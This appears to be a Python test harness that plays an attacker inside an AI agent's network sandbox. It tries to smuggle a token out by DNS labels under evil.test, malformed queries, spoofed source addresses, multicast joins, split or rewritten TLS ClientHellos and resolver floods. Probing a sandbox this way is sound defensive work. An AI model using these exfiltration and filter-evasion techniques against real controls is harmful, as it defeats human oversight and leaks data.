"""What an attacker inside the fence tries: attack.py [--cgroup PATH] NAME key=value...

Each function sends what it is told, ignores refusals, and prints one line of JSON. The same code runs
without a fence (where its token must arrive), under agentctl run, and with --cgroup as root without
the sandbox, where only the rules stand in the way: it joins the cgroup before it makes a socket.
"""
import asyncio
import concurrent.futures
import ctypes
import json
import mmap
import os
import select
import socket
import struct
import sys
import tempfile
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import wire  # noqa: E402
from attacks.found import *  # noqa: E402,F401,F403
from attacks.packets import *  # noqa: E402,F401,F403
from attacks.way import *  # noqa: E402,F401,F403
from attempts import attempt, drain, family, hexes, make_hello, tcp  # noqa: E402


# ---- plain connections ---------------------------------------------------------------------------

def connect(a):
    """Connects, sends the token, reads an answer."""
    s, err, ms = attempt(lambda: tcp(a["to"], a["port"]))
    if s is None:
        return {"connect": err, "ms": ms}
    _, err, _ = attempt(lambda: s.sendall(a["token"].encode() + b"\n"))
    start = time.monotonic()
    back, end = drain(s, a.get("wait", 1.0))
    return {"connect": "ok", "ms": ms, "send": err, "back": hexes(back), "end": end,
            "end_ms": (time.monotonic() - start) * 1000}


def connect_mapped(a):
    """IPv4 in an IPv6 socket."""
    def go():
        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        s.settimeout(3)
        s.connect(("::ffff:" + a["to"], a["port"]))
        s.sendall(a["token"].encode())
        return s
    s, err, ms = attempt(go)
    time.sleep(0.1)
    return {"connect": err or "ok", "ms": ms}


def resolve(a):
    r, err, ms = attempt(lambda: [x[4][0] for x in socket.getaddrinfo(a["name"], 443, type=socket.SOCK_STREAM)])
    return {"addresses": r or [], "error": err, "ms": ms}


def urllib_get(a):
    import urllib.request
    start = time.monotonic()
    try:
        with urllib.request.urlopen(a["url"], timeout=5) as f:
            return {"status": f.status, "body": f.read().decode(), "ms": (time.monotonic() - start) * 1000}
    except OSError as e:
        return {"status": 0, "error": str(e), "ms": (time.monotonic() - start) * 1000}


def asyncio_get(a):
    async def go():
        r, w = await asyncio.open_connection(a["name"], a["port"], ssl=True)
        w.write(b"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % a["name"].encode())
        out = await r.read()
        w.close()
        return out
    start = time.monotonic()
    try:
        return {"body": asyncio.run(go()).decode(), "ms": (time.monotonic() - start) * 1000}
    except OSError as e:
        return {"body": "", "error": str(e), "ms": (time.monotonic() - start) * 1000}


def pg(a):
    """The startup message of PostgreSQL and one query, over a plain connection."""
    def go():
        s = tcp(a["to"], a["port"])
        body = struct.pack("!I", 196608) + b"user\0agent\0database\0" + a["token"].encode() + b"\0\0"
        s.sendall(struct.pack("!I", 4 + len(body)) + body)
        first = s.recv(4096)
        s.sendall(b"Q" + struct.pack("!I", 13) + b"select 1\0")
        return first + s.recv(4096)
    r, err, ms = attempt(go)
    return {"back": (r or b"").decode("latin1"), "error": err, "ms": ms}


def pair(a):
    """Resolves the name, then connects to the address that was given (the two keys), hello as SNI."""
    r = resolve(a)
    if not r["addresses"]:
        return r
    return dict(hello(dict(a, to=r["addresses"][0])), addresses=r["addresses"])


# ---- DNS -----------------------------------------------------------------------------------------

def udp_ask(server, msg, timeout=2.0, port=53, sport=0):
    s = socket.socket(family(server), socket.SOCK_DGRAM)
    s.settimeout(timeout)
    if sport:
        s.bind(("", sport))

    def go():
        s.connect((server, port))
        s.send(msg)
        return s.recv(65535)
    return attempt(go)


def tcp_ask(server, data, n=1, chunk=0, timeout=2.0, port=53):
    """data: framed messages; the n framed answers."""
    def go():
        s = tcp(server, port, timeout)
        for i in range(0, len(data), chunk or len(data)):
            s.sendall(data[i:i + (chunk or len(data))])
        out, buf = [], b""
        while len(out) < n:
            more = s.recv(65536)
            if not more:
                break
            buf += more
            while len(buf) >= 2 and len(buf) >= 2 + struct.unpack("!H", buf[:2])[0]:
                size = 2 + struct.unpack("!H", buf[:2])[0]
                out.append(buf[2:size])
                buf = buf[size:]
        return out
    return attempt(go)


def frame(m):
    return struct.pack("!H", len(m)) + m


def dns_reply(value, err, ms):
    if not value:
        return {"error": err, "ms": ms}
    try:
        p = wire.dns_parse(value)
        return {"rcode": p["rcode"], "addresses": wire.dns_addresses(value), "ede": wire.dns_ede(value),
                "answers": p["an"], "flags": p["flags"], "ms": ms, "size": len(value)}
    except (ValueError, struct.error, IndexError) as e:
        return {"error": "unreadable %s" % e, "ms": ms, "raw": value.hex()}


def dns(a):
    """One question; a["tcp"], a["chunk"] (bytes a segment), a["qtype"], a["case"] as it is, a["sport"] (UDP),
    a["port"]."""
    msg = wire.dns_query(a["name"], a.get("qtype", 1), edns=b"" if a.get("edns", 1) else None)
    port = a.get("port", 53)
    if a.get("tcp"):
        v, err, ms = tcp_ask(a["server"], frame(msg), 1, a.get("chunk", 0), port=port)
        return dns_reply(v[0] if v else None, err, ms)
    return dns_reply(*udp_ask(a["server"], msg, port=port, sport=a.get("sport", 0)))


def dns_gone(a):
    """Questions of which nobody waits for the answer: the error that the kernel sends then holds it."""
    for i in range(a["n"]):
        s = socket.socket(family(a["server"]), socket.SOCK_DGRAM)
        s.sendto(wire.dns_query("%s%d.evil.test" % (a["token"], i)), (a["server"], 53))
        time.sleep(i % 8 * 2e-5)  # before, while and after it is answered
        s.close()
    return {"sent": a["n"]}


def dns_pipeline(a):
    msgs = b"".join(frame(wire.dns_query(n, edns=b"")) for n in a["names"].split(","))
    v, err, ms = tcp_ask(a["server"], msgs, len(a["names"].split(",")), a.get("chunk", 0))
    return {"replies": [dns_reply(m, None, ms) for m in v or []], "error": err}


def malformed_queries(name, tok):
    q = wire.dns_query
    evil = wire.dns_name(tok + ".evil.test") + struct.pack("!2H", 1, 1)
    return {
        "qdcount 0": q(name, qdcount=0, trailing=tok.encode()),
        "qdcount 2": q(name, qdcount=2, trailing=evil),
        "qdcount 65535": q(name, qdcount=65535, trailing=evil),
        "trailing bytes": q(name, trailing=tok.encode()),
        "edns option": q(name, edns=struct.pack("!2H", 65001, len(tok)) + tok.encode()),
        "client subnet": q(name, edns=struct.pack("!2H", 8, len(tok)) + tok.encode()),
        "qr=1": q(name, flags=0x8180, trailing=tok.encode()),
        "opcode 5": q(name, flags=0x2900, trailing=tok.encode()),
        "opcode 15": q(name, flags=0x7900, trailing=tok.encode()),
        "class CH": q(name, qclass=3, trailing=tok.encode()),
        "class 0": q(name, qclass=0, trailing=tok.encode()),
        "two questions, counts lie": q(name, counts=(1, 0, 0), trailing=evil),
        "answer in query": q(name, counts=(1, 0, 0), trailing=b"\xc0\x0c" + struct.pack(
            "!HHIH", 16, 1, 0, len(tok) + 1) + bytes([len(tok)]) + tok.encode()),
        "short": q(name)[:11] + tok.encode()[:0],
        "name cut off": q(name)[:20],
        "pointer in question": q(name)[:12] + b"\xc0\x0c\0\1\0\1" + tok.encode(),
        "label of 64": q([b"a" * 63, tok.encode(), b"evil", b"test"])[:12] + b"\x40" + tok.encode() * 4,
        "z bits": q(name, flags=0x0170, trailing=tok.encode()),
    }


def dns_malformed(a):
    out = {}
    for what, msg in malformed_queries(a["name"], a["token"]).items():
        if a.get("tcp"):
            v, err, ms = tcp_ask(a["server"], frame(msg), 1, timeout=1.0)
            out[what] = dns_reply(v[0] if v else None, err, ms)
        else:
            out[what] = dns_reply(*udp_ask(a["server"], msg, 1.0))
    return out


def dns_labels(a):
    """Data in questions: one query each, as raw labels. a["base"]: an allowed name."""
    tok, base = a["token"].encode(), [l.encode() for l in a["base"].split(".")]
    cases = {
        "under a refused name": ([tok, b"evil", b"test"], 1),
        "under an allowed name": ([tok] + base, 1),
        "TXT": ([tok, b"evil", b"test"], 16), "NULL": ([tok, b"evil", b"test"], 10),
        "ANY": ([tok, b"evil", b"test"], 255), "type 65280": ([tok] + base, 65280),
        "255 bytes": ([tok.ljust(60, b"x")] + [b"y" * 63] * 2 + [b"z" * 55, b"evil", b"test"], 1),
        "dot inside a label": ([tok + b"." + base[0]] + base[1:], 1),
        "whole name in a label": ([tok, b".".join(base)], 1),
        "NUL inside a label": ([base[0] + b"\0" + tok] + base[1:], 1),
        "NUL at the end": (base[:-1] + [base[-1] + b"\0" + tok], 1),
        "bytes above 127": ([b"\xff\xfe" + tok] + base, 1),
        "the root": ([], 2), "one label": ([tok], 1),
        "upper case": ([tok.upper(), b"EVIL", b"Test"], 1),
    }
    out = {}
    for what, (labels, qtype) in cases.items():
        out[what] = dns_reply(*udp_ask(a["server"], wire.dns_query(labels, qtype, edns=b""), 1.0))
    return out


def udp_send(a):
    """One datagram with the token. a["sport"], a["size"], a["mapped"], a["broadcast"], a["proto"]."""
    def go():
        s = socket.socket(socket.AF_INET6 if a.get("mapped") else family(a["to"]), socket.SOCK_DGRAM,
                          a.get("proto", 0))
        s.settimeout(a.get("wait", 0.5))
        if a.get("sport"):
            s.bind(("", a["sport"]))
        if a.get("broadcast"):
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        to = ("::ffff:" if a.get("mapped") else "") + a["to"]
        data = a["token"].encode().ljust(a.get("size", 0), b".")
        dev = (0, socket.if_nametoindex("a0")) if a["to"].startswith(("ff", "fe80")) else ()
        if a.get("broadcast") or dev or a["to"].startswith("224."):
            s.sendto(data, (to, a["port"]) + dev)
        else:
            s.connect((to, a["port"]))
            s.send(data)
        return s.recv(2048)
    v, err, ms = attempt(go)
    return {"back": hexes(v or b""), "error": err, "ms": ms}


def by_device(a):
    """A datagram that is told which device to leave by: for the whole socket, or for itself."""
    index, v6 = socket.if_nametoindex("a0"), ":" in a["to"]

    def go():
        s = socket.socket(family(a["to"]), socket.SOCK_DGRAM)
        s.settimeout(a.get("wait", 0.2))
        if a["how"] == "bound":
            s.setsockopt(socket.SOL_SOCKET, 25, b"a0")  # SO_BINDTODEVICE
        if a["how"] == "option":
            s.setsockopt(*((41, 76) if v6 else (0, 50)), struct.pack("!I", index))  # IP_UNICAST_IF
        info = (41, 50, b"\0" * 16 + struct.pack("@I", index)) if v6 else (0, 8, struct.pack("@i8x", index))
        s.sendmsg([a["token"].encode()], [info] if a["how"] == "message" else [], 0, (a["to"], a["port"]))
        return s.recv(2048)
    v, err, ms = attempt(go)
    return {"back": hexes(v or b""), "error": err, "ms": ms}


IPV6_FREEBIND = 78


def from_anywhere(a):
    """A socket with the address of somebody else: what answers it answers him. what: a question to the resolver,
    or connections to a listener of its own."""
    if a["what"] == "question":
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        to, data = (a["server"], 53), wire.dns_query(a["token"] + ".evil.test")
    else:
        l = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        l.bind(("::", 7777))
        l.listen(16)
        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        to, data = (a["to"], 7777), None
    s.settimeout(0.5)

    def go():
        for level, name in ((socket.IPPROTO_IPV6, IPV6_FREEBIND), (socket.IPPROTO_IP, 15)) if a.get("option", 1) else ():
            s.setsockopt(level, name, 1)
        s.bind((a["from"], a.get("sport", 4444)))
        if data:
            s.sendto(data, to)
            time.sleep(0.3)
        else:
            s.connect(to)
    return {"error": attempt(go)[1]}


def join_groups(a):
    """Multicast groups whose addresses, or the sources wanted from them, say the token."""
    index, tok = socket.if_nametoindex("a0"), a["token"].encode()
    err = None
    for i in range(0, len(tok), 13):
        part = tok[i:i + 13].ljust(13, b".")
        s = socket.socket(family("::"), socket.SOCK_DGRAM)
        v6 = lambda addr: struct.pack("@HHI16sI100x", 10, 0, 0, addr, 0)
        if a["how"] == "group":
            go = lambda: s.setsockopt(41, 20, b"\xff\x15\0" + part + struct.pack("@I", index))
        else:
            go = lambda: s.setsockopt(41, 46, struct.pack("@I4x", index) + v6(b"\xff\x35" + b"\0" * 13 + b"\1") +
                                      v6(b" \1\r" + part))
        err = attempt(go)[1] or err
        time.sleep(0.3)
        s.close()
    return {"error": err}


# ---- TLS and HTTP --------------------------------------------------------------------------------

def hello(a):
    """A ClientHello with the token in it. a["chunk"]: bytes a segment."""
    s, err, ms = attempt(lambda: tcp(a["to"], a["port"]))
    if s is None:
        return {"connect": err, "ms": ms}
    data, chunk = make_hello(a), a.get("chunk", 0)
    start = time.monotonic()

    def send():
        for i in range(0, len(data), chunk or len(data)):
            s.sendall(data[i:i + (chunk or len(data))])
    _, err, _ = attempt(send)
    s.settimeout(a.get("wait", 2.0))
    back, end, _ = attempt(lambda: s.recv(65536))
    return {"connect": "ok", "ms": ms, "send": err, "back": hexes(back or b""), "end": end or (
        "data" if back else "EOF"), "end_ms": (time.monotonic() - start) * 1000}


def raw_bytes(a):
    """a["hex"], in which 'TOKEN' is written as the token; a["then_hex"] after an answer."""
    s, err, ms = attempt(lambda: tcp(a["to"], a["port"]))
    if s is None:
        return {"connect": err, "ms": ms}
    fill = lambda h: bytes.fromhex(h).replace(b"TOKEN", a["token"].encode())
    out = {"connect": "ok", "ms": ms}
    data = fill(a["hex"])
    chunk = a.get("chunk", 0) or len(data)
    start = time.monotonic()

    def send():
        for i in range(0, len(data), chunk):
            time.sleep(a.get("pause", 0) if i else 0)
            s.sendall(data[i:i + chunk])
    _, out["send"], _ = attempt(send)
    s.settimeout(a.get("wait", 1.5))
    back, err, _ = attempt(lambda: s.recv(65536))
    out.update(back=hexes(back or b""), end=err or ("data" if back else "EOF"),
               end_ms=(time.monotonic() - start) * 1000)
    if a.get("then_hex"):
        _, out["send2"], _ = attempt(lambda: s.sendall(fill(a["then_hex"])))
        back, err, _ = attempt(lambda: s.recv(65536))
        out.update(back2=hexes(back or b""), end2=err or ("data" if back else "EOF"))
    return out


def broken_off(a):
    """A request, an answer, and the beginning of another request; then the same from the same port anew."""
    backs = []
    for last in (False, True):
        s = socket.socket(family(a["to"]), socket.SOCK_STREAM)
        s.settimeout(3)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        s.bind(("", 23456))
        s.connect((a["to"], a["port"]))
        s.sendall(bytes.fromhex(a["hex"]))
        backs.append(hexes(s.recv(65536)))
        if not last:
            s.sendall(b"GET /" + a["token"].encode())
            time.sleep(0.2)
        s.close()
    return {"backs": backs}


def silence(a):
    """Connects and says nothing for a while."""
    s, err, ms = attempt(lambda: tcp(a["to"], a["port"]))
    if s is None:
        return {"connect": err, "ms": ms}
    back, end = drain(s, a.get("wait", 1.0))
    return {"connect": "ok", "ms": ms, "back": hexes(back), "end": end}


def splits(a):
    """The hello cut in two at every offset (a["step"]); every connection of its own, some at once."""
    data = make_hello(a)
    res, slowest = {}, 0.0

    def one(at):
        s, err, _ = attempt(lambda: tcp(a["to"], a["port"]))
        if s is None:
            return at, "connect " + err, 0.0
        start = time.monotonic()

        def go():
            s.sendall(data[:at])
            time.sleep(0.001)
            s.sendall(data[at:])
            return s.recv(4096)
        back, err, _ = attempt(go)
        s.close()
        return at, "answer" if back else err or "EOF", time.monotonic() - start
    with concurrent.futures.ThreadPoolExecutor(16) as pool:
        for at, what, took in pool.map(one, range(1, len(data), a.get("step", 1))):
            res.setdefault(what, []).append(at)
            slowest = max(slowest, took)
    return {"n": len(data), "results": {k: len(v) for k, v in res.items()}, "slowest_ms": slowest * 1000,
            "first": {k: v[:5] for k, v in res.items()}}


def fastopen(a):
    """The hello in the SYN."""
    def go():
        s = socket.socket(family(a["to"]), socket.SOCK_STREAM)
        s.settimeout(2)
        s.sendto(make_hello(a) if a.get("sni") is not None else a["token"].encode(), 0x20000000,
                 (a["to"], a["port"]))  # MSG_FASTOPEN
        return s.recv(4096)
    v, err, ms = attempt(go)
    return {"back": hexes(v or b""), "error": err, "ms": ms}


def stitched(a):
    """Half an allowed hello, broken off; at once from the same port another connection with a refused one, for
    a["seconds"]. The numbers of its bytes may go on just where the half ended: together they read as the allowed
    hello, with the refused one in its padding."""
    evil, whole = wire.client_hello(a["evil"], a["token"].encode()), wire.client_hello(a["sni"], pad=14000)
    linger, begin = struct.pack("ii", 1, 0), whole.index(b"\0" * 200)
    half, gaps, open_, tries = 4000, [], [], 0
    end = time.monotonic() + a.get("seconds", 8)
    while time.monotonic() < end:
        tries += 1

        def go():
            two = [socket.socket(family(a["to"]), socket.SOCK_STREAM) for _ in range(2)]
            for s in two:
                s.settimeout(1)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
                s.bind(("", 20000 + tries % 12000))
            first = time.monotonic_ns()
            two[0].connect((a["to"], a["port"]))
            two[0].send(whole[:half])
            two[0].close()
            gaps.append((time.monotonic_ns() - first) // 64)  # as Linux counts: 64 ns a byte
            two[1].connect((a["to"], a["port"]))
            two[1].send(evil + b"\0" * (len(whole) - half - len(evil)))
            open_.append(two[1])
            if len(open_) > 600:
                open_.pop(0).close()
        attempt(go)
        if tries % 100 == 0 and gaps:
            half = max(begin + 1, min(13000, sorted(gaps[-100:])[len(gaps[-100:]) // 2]))
    return {"tries": tries, "half": half}


def urgent(a):
    """Bytes of the hello as urgent data in the middle."""
    def go():
        s = tcp(a["to"], a["port"], 1.5)
        data = make_hello(a)
        s.sendall(data[:30])
        s.send(b"!", socket.MSG_OOB)
        s.sendall(data[30:])
        return s.recv(4096)
    v, err, ms = attempt(go)
    return {"back": hexes(v or b""), "error": err, "ms": ms}


def by_reference(s, how, f, page, n):
    """Sends the first n bytes of a file's page, which the kernel only refers to."""
    if how == "sendfile":
        return os.sendfile(s.fileno(), f.fileno(), 0, n)
    if how == "zerocopy":
        s.setsockopt(socket.SOL_SOCKET, 60, 1)  # SO_ZEROCOPY
        return s.send(memoryview(page)[:n], 0x4000000)  # MSG_ZEROCOPY
    r, w = os.pipe()
    libc, start = ctypes.CDLL(None, use_errno=True), ctypes.c_longlong(0)
    for src, off, dst in ((f.fileno(), ctypes.byref(start), w), (r, None, s.fileno())):
        if libc.splice(src, off, dst, None, n, 0) < 0:
            raise OSError(ctypes.get_errno(), "splice")
    return n


def changed(a):
    """A hello for a["sni"] in pages that are rewritten to one for a["evil"], a name as long, after it was looked
    at: before it is sent again when its first segment expired on the way, or (a["race"]) at any moment."""
    good, evil = (wire.client_hello(a[k], a["token"].encode() if k == "evil" else b".") for k in ("sni", "evil"))
    assert len(good) == len(evil)
    f = tempfile.TemporaryFile()
    f.write(good.ljust(4096, b"\0"))
    f.flush()
    page = mmap.mmap(f.fileno(), 4096)
    v6 = ":" in a["to"]
    hops = (socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS) if v6 else (socket.IPPROTO_IP, socket.IP_TTL)

    def expired():
        with tcp(a["to"], a["port"]) as s:
            s.setsockopt(*hops, 1)
            by_reference(s, a["how"], f, page, len(good))
            time.sleep(0.05)
            page[:len(evil)] = evil
            s.setsockopt(*hops, 64)
            return hexes(drain(s, 0.7)[0])

    def race():
        pid = os.fork()
        if pid == 0:
            while True:
                page[:len(evil)] = evil
                page[:len(good)] = good
        try:
            for _ in range(200):
                with tcp(a["to"], a["port"]) as s:
                    by_reference(s, a["how"], f, page, len(good))
                    s.settimeout(0.02)
                    attempt(lambda: s.recv(100))
        finally:
            os.kill(pid, 9)
            os.waitpid(pid, 0)
    v, err, _ = attempt(race if a.get("race") else expired)
    return {"back": v, "error": err}


def stream(a):
    """Sends the token to a["to"] by new connections and datagrams until killed; READY at the start."""
    print("READY", flush=True)
    end = time.monotonic() + a.get("seconds", 30)
    n, last = 0, 0.0
    u = socket.socket(family(a["to"]), socket.SOCK_DGRAM)
    u.setblocking(False)
    while time.monotonic() < end:
        def go():
            s = tcp(a["to"], a["port"], 0.3)
            s.sendall(make_hello(a) if "sni" in a else a["token"].encode())
            s.close()
        attempt(go)
        attempt(lambda: u.sendto(a["token"].encode(), (a["to"], 9999)))
        n += 1
        if time.monotonic() - last > 0.2:
            last = time.monotonic()
            print("TRIED %d" % n, flush=True)
    return {"n": n}


def questions(a):
    """Asks for refused names as fast as it can, each another one, until it is killed; READY at the start."""
    s = socket.socket(family(a["server"]), socket.SOCK_DGRAM)
    s.connect((a["server"], 53))
    s.setblocking(False)
    print("READY", flush=True)
    for n in range(1 << 40):
        name = b"q%d" % n
        attempt(lambda: s.send(struct.pack("!6H", n & 0xffff, 0x100, 1, 0, 0, 0) + bytes([len(name)]) + name +
                               b"\4evil\4test\0\0\1\0\1"))
        while n % 64 == 0 and attempt(lambda: s.recv(1000))[1] is None:
            pass


def tcp_questions(a):
    """Many connections to the resolver, each full of questions for allowed names, until it is killed. Reads the
    answers, or not (read=0). READY when all are there."""
    data = b"".join(frame(wire.dns_query(a["name"], qid=i)) for i in range(100)) * 10
    ep, left = select.epoll(), {}
    socks = {}
    for _ in range(a["connections"]):
        s = tcp(a["server"], 53, 5.0)
        s.setblocking(False)
        socks[s.fileno()], left[s.fileno()] = s, b""
        ep.register(s.fileno(), select.EPOLLOUT | (select.EPOLLIN if a.get("read", 1) else 0))
    print("READY", flush=True)
    while socks:
        for fd, ev in ep.poll():
            try:
                if ev & select.EPOLLIN and not socks[fd].recv(1 << 20):
                    raise OSError
                if ev & select.EPOLLOUT:
                    left[fd] = left[fd] or data
                    left[fd] = left[fd][socks[fd].send(left[fd]):]
            except BlockingIOError:
                pass
            except OSError:
                ep.unregister(fd)
                socks.pop(fd).close()
    return {}


def allowed_questions(a):
    """Questions by UDP for an allowed name as fast as it can, each another one where the name has a %d."""
    s = socket.socket(family(a["server"]), socket.SOCK_DGRAM)
    s.connect((a["server"], 53))
    s.setblocking(False)
    print("READY", flush=True)
    one = wire.dns_query(a["name"], qid=1, edns=b"") if "%d" not in a["name"] else None
    for n in range(1 << 40):
        attempt(lambda: s.send(one or wire.dns_query(a["name"] % n, qid=1, edns=b"")))
        if "a_second" in a:
            time.sleep(1 / a["a_second"])
        while n % 64 == 0 and attempt(lambda: s.recv(65536))[1] is None:
            pass


def beside(a):
    """How long a lookup takes, and how long from connecting to the first answer: milliseconds, sorted."""
    out = {"lookup": [], "connect": []}
    for _ in range(a.get("n", 100)):
        with socket.socket(family(a["server"]), socket.SOCK_DGRAM) as s:
            s.settimeout(5)
            start = time.monotonic()
            s.sendto(wire.dns_query(a["name"], edns=b""), (a["server"], 53))
            got = wire.dns_parse(s.recv(65536))
            out["lookup"].append((time.monotonic() - start) * 1000)
            assert got["rcode"] == 0, got
        start = time.monotonic()
        with tcp(a["to"], a["port"], 5.0) as s:
            s.sendall(b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % a["name"].encode())
            assert s.recv(100).startswith(b"HTTP/1.1 200")
            out["connect"].append((time.monotonic() - start) * 1000)
        time.sleep(0.005)
    return {k: [round(x, 2) for x in sorted(v)] for k, v in out.items()}


def datagrams(a):
    """Sends datagrams as fast as it can until it is killed, with so many bound sockets beside it; READY before."""
    beside = []
    for _ in range(a.get("sockets", 0)):
        beside.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        beside[-1].bind(("127.0.0.1", 0))
    s = socket.socket(family(a["to"]), socket.SOCK_DGRAM)
    s.setblocking(False)
    data = a["token"].encode().ljust(a.get("size", 0), b".")
    print("READY", flush=True)
    while True:
        attempt(lambda: s.sendto(data, (a["to"], a["port"])))


def queued(a):
    """Leaves data in a socket buffer of a connection that is not verified, and goes."""
    s, err, _ = attempt(lambda: tcp(a["to"], a["port"], 1.0))
    if s is None:
        return {"connect": err}
    data = wire.client_hello(a["sni"])[:100] if a.get("half") else b""
    bad = wire.client_hello(a["evil"], a["token"].encode())
    s.setblocking(False)
    attempt(lambda: s.send(data or bad[:120]))
    attempt(lambda: s.send((a["token"].encode() + b"\n") * 2000))
    print(json.dumps({"connect": "ok"}), flush=True)
    os._exit(0)


def joined_socket(a):
    """Does a flow that was verified go on? Sends lines until told to stop by EOF of stdin."""
    s, err, _ = attempt(lambda: tcp(a["to"], a["port"]))
    if s is None:
        return {"connect": err}
    s.sendall(make_hello(a) if "sni" in a else b"start\n")
    attempt(lambda: s.recv(4096))
    print("READY", flush=True)
    for line in sys.stdin:
        _, err, _ = attempt(lambda: s.sendall(line.encode()))
        print("SENT %s %s" % (line.strip(), err), flush=True)
    return {"connect": "ok"}


def several(a):
    """a["list"]: JSON list of [name, {args}]; one process, one report."""
    out = []
    for name, args in json.loads(sys.stdin.read() if a["list"] == "-" else a["list"]):
        out.append(globals()[name](dict(args)))
    return {"results": out}


def main(argv):
    if argv[0] == "--cgroup":
        with open(argv[1] + "/cgroup.procs", "w") as f:
            f.write(str(os.getpid()))
        argv = argv[2:]
    a = {}
    for arg in argv[1:]:
        k, v = arg.split("=", 1)
        a[k] = int(v) if v.isdigit() and k not in ("token", "hex", "then_hex", "sni_hex") else v
        if k != "list" and v.startswith(('["', "[[")):
            a[k] = json.loads(v)
        if k in ("wait", "seconds", "timeout"):
            a[k] = float(v)
    print(json.dumps(globals()[argv[0]](a)), flush=True)
    if argv[0] == "crafted":
        os._exit(0)


if __name__ == "__main__":
    main(sys.argv[1:])
